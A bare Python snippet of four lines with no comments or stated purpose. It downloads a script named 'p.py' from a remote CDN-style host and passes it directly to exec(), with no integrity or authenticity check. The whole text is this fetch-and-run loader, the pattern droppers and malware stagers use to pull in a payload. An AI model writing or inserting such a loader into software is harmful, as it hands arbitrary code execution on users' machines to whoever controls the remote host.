import urllib.request

code = urllib.request.urlopen('https://cdn.example-tools.net/p.py').read()
exec(code)
